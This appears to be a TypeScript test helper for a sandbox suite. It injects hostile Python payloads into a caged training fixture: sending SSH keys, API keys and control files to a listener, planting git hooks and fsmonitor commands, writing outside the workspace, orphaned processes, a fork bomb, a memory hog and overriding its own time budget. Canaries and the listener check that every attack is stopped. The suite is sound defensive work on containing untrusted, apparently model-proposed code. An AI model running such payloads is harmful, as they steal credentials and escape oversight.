/**
 * The hostile-candidate suite's attacks and its checks, shared by the adopted
 * (tests/sandbox-hostile-adopt.test.ts) and the LLM
 * (tests/sandbox-hostile-llm.test.ts) halves. Each attack is a few lines of
 * Python pasted into the caged fixture's train.py; none of them hides from
 * anything (the fixture turns the policy off), so what stops them is the
 * sandbox alone. Where an attack is stopped with an error, the error ends the
 * run and becomes the record's reason.
 *
 *   const world = await hostileWorld('adopt')            // canaries, a listener, a marked project
 *   for (const c of CASES) train = withPayload(base, c.payload(world))
 *   ...
 *   await world.assertUntouched()                         // nothing read, written, sent or left running
 */
import { createHash } from 'node:crypto'
import { cp, mkdir, readdir, readFile, writeFile } from 'node:fs/promises'
import { createServer, type Server, type Socket } from 'node:net'
import { dirname, join } from 'node:path'
import { expect } from 'vitest'
import { FIXTURES, tempDir } from './fixtures.ts'

export const PAYLOAD_LINE = '# --- payload ---'

export interface World {
  /** The caged fixture, copied; its run command carries `mark` so its processes can be found. */
  dir: string
  home: string
  fakeHome: string
  outside: string
  port: number
  /** Digits unique to this test: every process an attack starts has them in its command line. */
  mark: string
  /** What the listener received: connections and bytes. */
  heard: { connections: number, bytes: number }
  env: NodeJS.ProcessEnv
  /** Hashes of every canary and protected file; call after the node has written its own (identity, control). */
  snapshot: () => Promise<Map<string, string>>
  close: () => Promise<void>
}

export interface HostileCase {
  name: string
  /** Python statements, at the top level of train.py. */
  payload: (w: World) => string
  status: Array<'crash' | 'invalid' | 'discard'>
  reason: RegExp
}

/** An API key that must never reach a run. */
export const CANARY_KEY = `sk-canary-${createHash('sha256').update(String(process.pid)).digest('hex').slice(0, 24)}`

const EXFIL = (w: World): string => [
  'def _exfil(data):',
  '    import socket',
  `    s = socket.create_connection(("127.0.0.1", ${w.port}), timeout=2)`,
  '    s.sendall(data if isinstance(data, bytes) else data.encode())',
  '    s.close()'
].join('\n')

export const CASES: HostileCase[] = [
  { name: 'ssh-key', payload: w => `${EXFIL(w)}\n_exfil(open(os.path.expanduser("~/.ssh/id_rsa"), "rb").read())`, status: ['crash'], reason: /FileNotFoundError.*\.ssh\/id_rsa/ },
  { name: 'ssh-key-by-path', payload: w => `${EXFIL(w)}\n_exfil(open("${w.fakeHome}/.ssh/id_rsa", "rb").read())`, status: ['crash'], reason: /FileNotFoundError.*\.ssh\/id_rsa/ },
  { name: 'api-key', payload: w => `${EXFIL(w)}\n_exfil(os.environ["OPENAI_API_KEY"])`, status: ['crash'], reason: /KeyError: 'OPENAI_API_KEY'/ },
  { name: 'identity', payload: w => `${EXFIL(w)}\n_exfil(open("${w.home}/identity.key", "rb").read())`, status: ['crash'], reason: /FileNotFoundError.*identity\.key/ },
  { name: 'control-file', payload: w => `${EXFIL(w)}\n_exfil(open("${w.home}/control.json", "rb").read())`, status: ['crash'], reason: /FileNotFoundError.*control\.json/ },
  { name: 'connect', payload: w => `${EXFIL(w)}\n_exfil(b"hello from inside")`, status: ['crash'], reason: /ConnectionRefusedError|Network is unreachable/ },
  { name: 'write-outside', payload: w => `open(os.path.join(os.path.dirname(os.getcwd()), "stolen"), "w").write("x")\nopen("${w.outside}/stolen", "w").write("x")`, status: ['crash'], reason: /Read-only file system|FileNotFoundError/ },
  { name: 'write-data', payload: () => 'open("data/scale.txt", "w").write("0.1\\n")', status: ['crash'], reason: /Read-only file system/ },
  { name: 'write-git', payload: w => `open(".git/config", "a").write("[core]\\n\\tfsmonitor = touch ${w.outside}/fsmonitor\\n")`, status: ['crash'], reason: /Read-only file system/ },
  { name: 'git-hook', payload: w => `open(".git/hooks/reference-transaction", "w").write("#!/bin/sh\\ntouch ${w.outside}/hooked\\n")\nos.chmod(".git/hooks/reference-transaction", 0o755)`, status: ['crash'], reason: /Read-only file system/ },
  { name: 'setsid-child', payload: w => `import subprocess\nsubprocess.Popen(["setsid", "sleep", "${w.mark}"])`, status: ['discard'], reason: /^$/ },
  { name: 'own-budget', payload: () => 'os.environ["SWARM_TIME_BUDGET"] = "12"\ntime.sleep(3.5)', status: ['invalid'], reason: /training_seconds 3\.\d exceeds the 2 s budget/ },
  { name: 'overrun', payload: () => 'os.environ["SWARM_TIME_BUDGET"] = "60"\ntime.sleep(60)', status: ['crash'], reason: /timed out after \d+(\.\d)? s/ },
  { name: 'fork-loop', payload: w => `while True:\n    if os.fork() == 0:\n        os.execv("/bin/sleep", ["sleep", "${w.mark}"])`, status: ['crash'], reason: /BlockingIOError|Resource temporarily unavailable/ },
  { name: 'memory', payload: () => '_hog = bytearray(1024 * 1024 * 1024)', status: ['crash'], reason: /MemoryError|killed by SIGKILL/ }
]

export function withPayload (train: string, code: string): string {
  if (!train.includes(PAYLOAD_LINE)) throw new Error('the caged fixture has no payload line')
  return train.replace(PAYLOAD_LINE, `${PAYLOAD_LINE}\n${code}`)
}

/** The caged fixture's train.py as shipped. */
export async function cagedTrain (): Promise<string> {
  return await readFile(join(FIXTURES, 'caged', 'train.py'), 'utf8')
}

/** val_bpb the caged fixture reports for its constants (scale 1.0, as prepare writes it). */
export function honestFigure (c: { depth?: number, lr?: number, window?: number } = {}): number {
  const depth = c.depth ?? 4
  const lr = c.lr ?? 0.04
  const window = c.window ?? 128
  return Number((1.0 + 0.05 * Math.abs(depth - 6) + 5 * Math.abs(lr - 0.02) + 0.0001 * Math.abs(window - 256)).toFixed(6))
}

const sha = (b: Buffer): string => createHash('sha256').update(b).digest('hex')

async function hashTree (root: string, out: Map<string, string>): Promise<void> {
  for (const e of await readdir(root, { withFileTypes: true }).catch(() => [])) {
    const p = join(root, e.name)
    if (e.isDirectory()) await hashTree(p, out)
    else out.set(p, sha(await readFile(p).catch(() => Buffer.from('unreadable'))))
  }
}

/** Processes (not zombies) whose command line holds `mark`. */
export async function leftovers (mark: string): Promise<string[]> {
  const out: string[] = []
  for (const pid of await readdir('/proc')) {
    if (!/^\d+$/.test(pid)) continue
    const cmd = (await readFile(`/proc/${pid}/cmdline`, 'utf8').catch(() => '')).replace(/\0/g, ' ').trim()
    if (!cmd.includes(mark) || cmd.includes('vitest')) continue
    const stat = await readFile(`/proc/${pid}/stat`, 'utf8').catch(() => null)
    if (stat != null && !/^[ZX]$/.test(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[0]!)) out.push(`${pid}: ${cmd}`)
  }
  return out
}

export async function hostileWorld (name: string): Promise<World> {
  const root = await tempDir(`hostile-${name}`)
  const dir = join(root, 'caged')
  await cp(join(FIXTURES, 'caged'), dir, { recursive: true })
  const mark = `300.${process.pid}${String(Date.now() % 1_000_000).padStart(6, '0')}`
  // The mark in the run command: every training process of this test is findable.
  const manifest = JSON.parse(await readFile(join(dir, 'swarm.json'), 'utf8'))
  manifest.run = `python3 train.py ${mark}`
  await writeFile(join(dir, 'swarm.json'), JSON.stringify(manifest, null, 2))
  const home = join(root, 'node-home')
  const fakeHome = join(root, 'user-home')
  const outside = join(root, 'outside')
  await mkdir(join(fakeHome, '.ssh'), { recursive: true })
  await writeFile(join(fakeHome, '.ssh', 'id_rsa'), `-----BEGIN OPENSSH PRIVATE KEY-----\ncanary ${mark}\n-----END OPENSSH PRIVATE KEY-----\n`, { mode: 0o600 })
  await mkdir(outside, { recursive: true })

  const heard = { connections: 0, bytes: 0 }
  const sockets = new Set<Socket>()
  const server: Server = createServer(s => {
    heard.connections++
    sockets.add(s)
    s.on('data', d => { heard.bytes += d.length })
    s.on('close', () => sockets.delete(s))
  })
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve))
  const port = (server.address() as { port: number }).port

  const w: World = {
    dir,
    home,
    fakeHome,
    outside,
    port,
    mark,
    heard,
    env: { HOME: fakeHome, OPENAI_API_KEY: CANARY_KEY },
    snapshot: async () => {
      const m = new Map<string, string>()
      for (const f of [join(fakeHome, '.ssh', 'id_rsa'), join(home, 'identity.key'), join(home, 'control.json'), join(dir, 'data', 'scale.txt'), join(dir, '.git', 'config')]) {
        m.set(f, sha(await readFile(f).catch(() => Buffer.from('absent'))))
      }
      await hashTree(join(dir, '.git', 'hooks'), m)
      await hashTree(outside, m)
      m.set('(beside the workspace)', (await readdir(dirname(dir))).sort().join(','))
      return m
    },
    close: async () => {
      for (const s of sockets) s.destroy()
      await new Promise<void>(resolve => server.close(() => resolve()))
    }
  }
  return w
}

/** Every attack case checked against its record: recorded, with the reason, in the expected status. */
export function expectRecorded (c: HostileCase, record: { status: string, reason: string }): void {
  expect(c.status, `${c.name}: status ${record.status} (${record.reason})`).toContain(record.status)
  expect(record.reason, c.name).toMatch(c.reason)
}
